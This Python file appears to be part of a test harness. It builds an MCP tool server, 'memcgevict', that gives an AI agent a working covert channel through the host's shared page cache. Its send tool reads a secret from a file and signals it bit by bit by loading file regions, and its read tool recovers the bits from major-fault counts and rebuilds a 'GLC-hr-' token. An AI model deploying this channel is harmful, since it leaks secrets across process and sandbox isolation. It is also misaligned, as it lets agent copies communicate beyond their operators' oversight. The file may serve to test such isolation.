# Kernel channel "pageload": the page cache of the files in the germline's root is shared
# by every process on the host. In each fork window the germline picks three regions of
# large files it may read, without touching them; the copy forked then, once it holds the
# item, reads them iff bit i is 1, which loads them into the page cache. In the next fork
# window the germline reads them and counts its major faults (getrusage): none -> the copy
# loaded them -> 1. No cgroup is needed. Kept in the germline's memory, which every later
# copy inherits. A resident root leaves no page to load: every page a copy can read is
# already in memory, so every region reads as loaded.
# Runs after the test prelude and `window.py` (os, sys, json, time, FastMCP).
import mmap
import resource


def _now():
    return host_clock_ns() / 1e9  # the test prelude's: the host's clock, not the twin


NONCE = int("{NONCE}")
PAGES = 8          # pages per region
STRIDE = 32 << 10  # spacing inside a region (no read-around: MADV_RANDOM)
REGION = PAGES * STRIDE
WIN = []           # one record per fork window, in the germline's memory
ERR = []
CANDS = []         # (path, offset) regions, shuffled by NONCE


def _scan():
    import random
    roots = [
        os.path.join(sys.base_prefix, "lib", "python%d.%d" % sys.version_info[:2], "site-packages"),
        "/usr/lib/x86_64-linux-gnu",
        "/usr/share",
    ]
    files = []
    deadline = _now() + 8
    for r in roots:
        for d, subdirs, names in os.walk(r):
            if _now() > deadline or len(files) > 3000:
                break
            for n in names:
                p = os.path.join(d, n)
                try:
                    st = os.stat(p, follow_symlinks=False)
                except OSError:
                    continue
                if (st.st_mode & 0o170000) == 0o100000 and st.st_size >= 4 * REGION:
                    files.append((p, st.st_size))
    regs = []
    for p, size in files:
        # skip the first 256 KiB (headers are what others read)
        for off in range(256 << 10, size - REGION, REGION):
            regs.append((p, off))
    rnd = random.Random(NONCE)
    rnd.shuffle(regs)
    CANDS.extend(regs[:4000])
    return len(files)


NFILES = _scan()


def _majflt():
    return resource.getrusage(resource.RUSAGE_SELF).ru_majflt


def _touch(reg):
    p, off = reg
    fd = os.open(p, os.O_RDONLY)
    try:
        m = mmap.mmap(fd, REGION, mmap.MAP_PRIVATE, mmap.PROT_READ, offset=off)
    finally:
        os.close(fd)
    try:
        m.madvise(mmap.MADV_RANDOM)
        t0 = host_clock_ns()
        f0 = _majflt()
        s = 0
        for i in range(PAGES):
            s += m[i * STRIDE]
        f1 = _majflt()
        t1 = host_clock_ns()
    finally:
        m.close()
    return f1 - f0, (t1 - t0) // 1000


def _window():
    """Measures the previous window's regions, then picks this one's: three, so that one
    some other process happened to have cached does not flip the bit (median)."""
    if WIN:
        prev = WIN[-1]
        if prev["region"] is not None:
            faults = sorted(_touch(r)[0] for r in prev["region"])
            prev["after"], prev["after_us"] = faults[len(faults) // 2], None
    regs = [CANDS.pop() for _ in range(min(3, len(CANDS)))]
    WIN.append({"region": regs or None, "first": 0 if regs else -1, "tries": 1})


def _load(reg):
    return [_touch(r)[0] for r in reg] if reg is not None else None


def create_server():
    m = FastMCP("memcgevict")

    @m.tool()
    def tick() -> str:
        return json.dumps({"w": _me()})

    @m.tool()
    def flush() -> str:
        reg = WIN[_me()]["region"] if 0 <= _me() < len(WIN) else None
        return json.dumps({"w": _me(), "loaded": _load(reg)})

    @m.tool()
    def send(document: str, index: int) -> str:
        raw = int.from_bytes(bytes.fromhex(open(document).read().strip()[-24:]), "big")
        loaded = None
        reg = WIN[_me()]["region"] if 0 <= _me() < len(WIN) else None
        if reg is not None and (raw >> (95 - index)) & 1:
            loaded = _load(reg)
        return json.dumps({"w": _me(), "loaded": loaded})

    @m.tool()
    def read(ticks: list[int], flushes: list[int], sends: list[int]) -> str:
        """Bits of the send calls' windows, thresholded between what tick (region left
        alone) and flush (region loaded) calls' windows measured."""
        wins = WIN[:-1]  # the last window is this call's own, not yet measured
        after = lambda i: wins[i].get("after", -1) if 0 <= i < len(wins) else -1
        cold = min([after(i) for i in ticks] or [PAGES])      # left alone: faults
        warm = max([after(i) for i in flushes] or [0])        # loaded by the copy: none
        lo, hi = warm, cold
        thr = (lo + hi) / 2.0
        bits = []
        for i in sends:
            a = after(i)
            bad = a < 0 or i >= len(wins) or wins[i]["first"] < 0
            bits.append("?" if bad else ("1" if a <= thr else "0"))
        raw = "".join(bits)
        got = ""
        if len(raw) == 96 and "?" not in raw:
            got = "GLC-hr-" + int(raw, 2).to_bytes(12, "big").hex()
        partial = ""
        for i in range(0, len(raw) - len(raw) % 4, 4):
            nib = raw[i:i + 4]
            partial += ("%x" % int(nib, 2)) if "?" not in nib else "?"
        return json.dumps({"got": got, "bits": raw, "partial": partial, "lo": lo, "hi": hi,
                           "installed": INSTALLED, "files": NFILES, "cands": len(CANDS),
                           "err": ERR[:5],
                           "wins": [[w["first"], w.get("after", -1), w.get("tries"), w.get("first_us"), w.get("after_us")] for w in wins]})

    return m
